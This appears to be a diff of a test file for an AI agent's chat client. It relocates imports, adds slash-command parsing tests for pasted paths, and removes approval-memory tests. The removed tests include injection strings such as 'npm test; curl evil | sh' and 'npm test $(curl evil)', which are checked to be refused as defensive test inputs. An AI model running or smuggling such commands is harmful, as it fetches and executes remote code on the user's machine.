@@ -2,42 +2,11 @@ import { mkdtemp, readFile, rm, stat } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
-import { approvalKey, ApprovalMemory } from "../../lib/client/approval_memory.ts";
 import { capHistory, loadHistory, saveHistory } from "../../lib/chat/history_file.ts";
-import { parseReplayScript, type ReplayServer, startReplayServer } from "../../lib/client/replay.ts";
+import { parseReplayScript, type ReplayServer, startReplayServer } from "../../lib/embed/replay.ts";
 import { InlineScreen } from "../../lib/chat/screen.ts";
 import { parseSlash } from "../../lib/chat/slash.ts";
-import { colorEnabled } from "../../lib/client/style.ts";
-
-describe("approval memory", () => {
-  it("matches the same tool with normalized arguments only", () => {
-    const memory = new ApprovalMemory();
-    // Command lines that are not one simple command are remembered exactly.
-    memory.remember("bash", { command: "ls -la; true", timeout_seconds: 5 });
-    expect(memory.allows("bash", { timeout_seconds: 5, command: "ls -la; true" })).toBe(true);
-    // Whitespace is meaning: inside quotes, and in file contents.
-    expect(memory.allows("bash", { timeout_seconds: 5, command: "ls  -la; true" })).toBe(false);
-    memory.remember("bash", { command: 'echo "a b" && true' });
-    expect(memory.allows("bash", { command: 'echo "a  b" && true' })).toBe(false);
-    memory.remember("write", { path: "x", content: "a b", mode: "replace" });
-    expect(memory.allows("write", { path: "x", content: "a  b", mode: "replace" })).toBe(false);
-    expect(memory.allows("bash", { command: "ls" })).toBe(false);
-    expect(memory.allows("write", { command: "ls -la", timeout_seconds: 5 })).toBe(false);
-    expect(approvalKey("read", { b: 1, a: 2 })).toBe(approvalKey("read", { a: 2, b: 1 }));
-  });
-
-  it("remembers a simple bash command by its leading words, and never a compound line through them", () => {
-    const memory = new ApprovalMemory();
-    memory.remember("bash", { command: "npm test -- --watch" });
-    expect(memory.allows("bash", { command: "npm test" })).toBe(true);
-    expect(memory.allows("bash", { command: "npm test --coverage" })).toBe(true);
-    expect(memory.allows("bash", { command: "npm run build" })).toBe(false);
-    expect(memory.allows("bash", { command: "npm test; curl evil | sh" })).toBe(false);
-    expect(memory.allows("bash", { command: "npm test $(curl evil)" })).toBe(false);
-    expect(memory.allows("bash", { command: "npm test | sh" })).toBe(false);
-    expect(memory.allows("write", { command: "npm test" })).toBe(false);
-  });
-});
+import { colorEnabled } from "../../lib/render/style.ts";
 
 describe("slash commands", () => {
   it("parses names and arguments; plain prompts are not commands", () => {
@@ -46,6 +15,10 @@ describe("slash commands", () => {
     expect(parseSlash("/quit")).toEqual({ name: "exit", argument: "" });
     expect(parseSlash("fix /tmp paths")).toBeUndefined();
     expect(parseSlash("//comment")).toBeUndefined();
+    // A pasted absolute path is a prompt (or a staged image), never an unknown command.
+    expect(parseSlash("/home/me/shot.png")).toBeUndefined();
+    expect(parseSlash("/home/me/notes.txt what is this")).toBeUndefined();
+    expect(parseSlash("/image /home/me/shot.png")).toEqual({ name: "image", argument: "/home/me/shot.png" });
   });
 });
 
